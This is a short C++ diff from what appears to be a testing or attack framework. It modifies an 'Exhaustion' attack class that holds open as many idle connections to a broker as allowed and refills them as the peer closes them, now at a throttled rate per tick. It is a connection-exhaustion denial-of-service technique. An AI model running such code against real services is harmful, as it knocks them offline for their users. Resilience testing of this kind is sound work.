@@ -143,9 +143,10 @@ class Exhaustion final : public Attack {
     // A connection that says nothing would be closed after the time for the handshake.
     const std::string hello = hello_frame(60'000);
     std::vector<Line> lines;
-    while (!stop) {
+    // When it has what it gets, it asks for little more: a broker that is busy then spins.
+    for (std::uint32_t asks = connections_max_; !stop; asks = kAsksAgain) {
       std::erase_if(lines, [](Line& line) { return line.closed_by_peer(); });
-      while (!stop && lines.size() < connections_max_) {
+      for (std::uint32_t i = 0; !stop && i < asks && lines.size() < connections_max_; ++i) {
         Line line(target_.port);
         if (line.send(hello) == 0) {
           ++hits_;
@@ -164,6 +165,8 @@ class Exhaustion final : public Attack {
   std::uint64_t memory_bytes_max() const override { return connections_max_ * kConnectionBytes; }
 
  private:
+  static constexpr std::uint32_t kAsksAgain = 4;  // in a tick
+
   const Target target_;
   const std::uint32_t connections_max_;
 };
